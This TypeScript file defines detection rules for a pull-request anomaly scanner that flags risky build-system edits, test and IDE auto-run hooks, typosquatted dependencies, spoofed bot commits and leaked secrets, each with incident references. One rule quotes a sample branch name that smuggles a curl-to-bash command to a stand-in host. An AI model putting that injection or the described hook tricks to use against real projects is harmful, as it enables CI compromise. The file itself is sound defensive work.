// Rules of pr-anomaly-scan. Ids are stable: configs, inline ignores and
// code-scanning alerts refer to them. A rule's group (its id's prefix) is the
// family the risk score chains. The workflow rules are the core workflow
// audit's (run in diff mode) and the content rules (Unicode, obfuscation,
// opaque binaries, malicious behaviour, package indexes) the core content
// analysers', carried with their retired ids as aliases.
import { RuleRegistry, defineRules, rulesOf } from '@security-actions/core';
import { CONTENT_REGISTRY } from '@security-actions/core/content';
import { WORKFLOW_AUDIT_REGISTRY } from '@security-actions/core/workflow-rules';
import { GHOST, TJ, ULTRALYTICS, XZ, XZ_LANDLOCK } from './incidents';

export const RULES = defineRules({
  // --- build system ------------------------------------------------------------
  BUILD_BACKEND: {
    id: 'build/build-backend',
    title: 'Build backend changed',
    severity: 'high',
    why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
    remediation:
      'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
    spec: ['S8-16']
  },
  BUILD_NATIVE: {
    id: 'build/native-build-script',
    title: 'Meson or CMake script runs commands or downloads',
    severity: 'medium',
    why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
    remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
    spec: ['S8-16'],
    references: [XZ]
  },
  BUILD_AUTOTOOLS: {
    id: 'build/autotools',
    title: 'Autotools or m4 macro changed',
    severity: 'low',
    why: 'The xz backdoor was triggered by an edited `build-to-host.m4`: m4 and `configure.ac` run shell at configure time and are rarely reviewed. An ordinary edit is noted; shell evaluation and byte-level text tricks are the backdoor shape.',
    remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
    spec: ['S8-16'],
    references: [XZ]
  },
  BUILD_FEATURE_TEST: {
    id: 'build/feature-test',
    title: 'Build-system feature test changed',
    severity: 'medium',
    why: "A configure-time test program (CMake `check_c_source_compiles`, autoconf `AC_COMPILE_IFELSE`, meson `cc.compiles`) decides whether a feature is built. A test that stops compiling turns the feature off without an error: one stray `.` in xz's Landlock test silently disabled the sandbox (February 2024).",
    remediation:
      'Read the test program before and after; build with the feature forced on, or check the configure log says the feature was found.',
    spec: ['S8-16'],
    references: [XZ_LANDLOCK]
  },
  BUILD_TEST_HOOK: {
    id: 'build/test-runner-hook',
    title: 'Test or task runner configuration runs processes or downloads',
    severity: 'medium',
    why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
    remediation: 'Review the added command; keep network and process calls out of test configuration.',
    spec: ['S8-16']
  },
  BUILD_PRECOMMIT_LOCAL: {
    id: 'build/pre-commit-local',
    title: 'Local pre-commit hook added',
    severity: 'medium',
    why: "A `repo: local` hook runs an arbitrary command on every contributor's machine and in CI.",
    remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
    spec: ['S8-16']
  },
  BUILD_PTH: {
    id: 'build/pth-file',
    title: '`.pth` file added',
    severity: 'high',
    why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
    remediation: 'Remove the file unless it only lists paths.',
    spec: ['S8-16']
  },
  BUILD_IMPORT_PROCESS: {
    id: 'build/import-time-process',
    title: 'Process or thread started at import time',
    severity: 'medium',
    why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
    remediation: 'Move the call into a function called explicitly.',
    spec: ['S8-16']
  },
  // --- dependencies -----------------------------------------------------------------
  DEP_NEW: {
    id: 'deps/new-dependency',
    title: 'New dependency',
    severity: 'info',
    why: "Each new dependency is code that runs in your users' environments.",
    remediation: 'Check the project is maintained and the name is the one intended.',
    spec: ['S8-16']
  },
  DEP_TYPOSQUAT: {
    id: 'deps/typosquat',
    title: 'Dependency name close to a popular package',
    severity: 'high',
    why: 'Typosquatted names are a common way malware reaches Python environments.',
    remediation: 'Use the exact name of the intended package.',
    spec: ['S8-16']
  },
  // --- metadata -----------------------------------------------------------------------
  META_REF_INJECTION: {
    id: 'meta/branch-name-shell',
    title: 'Shell syntax in the branch name',
    severity: 'medium',
    why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
    remediation:
      'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
    spec: ['S8-16'],
    references: [ULTRALYTICS]
  },
  META_EMPTY_NEW: {
    id: 'meta/empty-pr-new-account',
    title: 'Near-empty PR from a new account',
    severity: 'medium',
    why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
    remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
    spec: ['S8-16']
  },
  META_BOT_IDENTITY: {
    id: 'meta/unverified-bot-identity',
    title: 'Commit claims a bot identity without verification',
    severity: 'high',
    why: "Anyone can set their git author to `github-actions[bot]`; tj-actions' malicious commit posed as Renovate.",
    remediation:
      'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
    spec: ['S8-4'],
    references: [TJ]
  },
  META_GOVERNANCE: {
    id: 'meta/governance-edit',
    title: 'CODEOWNERS, CI or scanner configuration changed',
    severity: 'medium',
    why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
    remediation: 'Have a maintainer who owns CI review the change.',
    spec: ['S6-1', 'S8-5']
  },
  META_NEW_AUTHOR: {
    id: 'meta/new-author-sensitive-paths',
    title: 'First-time contributor changes sensitive files',
    severity: 'medium',
    why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
    remediation: 'Review these files line by line before approving workflow runs.',
    spec: ['S8-16']
  },
  META_AUTORUN: {
    id: 'meta/ide-autorun',
    title: 'File that makes an IDE or agent run code',
    severity: 'high',
    why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
    remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
    spec: ['S8-16'],
    references: [GHOST]
  },
  META_SUPPRESSION: {
    id: 'meta/suppression-added',
    title: 'PR adds an inline suppression',
    severity: 'low',
    why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
    remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
    spec: ['S8-16']
  },
  // --- secrets ---------------------------------------------------------------------------
  SECRET: {
    id: 'secrets/credential',
    title: 'Credential added',
    severity: 'critical',
    why: 'A committed credential is public as soon as the PR is pushed.',
    remediation: 'Revoke the credential now, then remove it from the branch.',
    spec: ['S6-7', 'S6-5'],
    pathIgnorable: false
  }
});

/**
 * `build/setup-py` is `code/install-hook` now: one rule judges install-time
 * code in setup.py by what it runs (a version read from git is not a
 * download), where the old rule called any process call high.
 */
const RETIRED = { 'build/setup-py': 'code/install-hook' };

export const REGISTRY = new RuleRegistry(
  'pr-anomaly-scan',
  [...rulesOf(RULES), ...CONTENT_REGISTRY.list(), ...WORKFLOW_AUDIT_REGISTRY.list()],
  { ...WORKFLOW_AUDIT_REGISTRY.aliases, ...RETIRED }
);
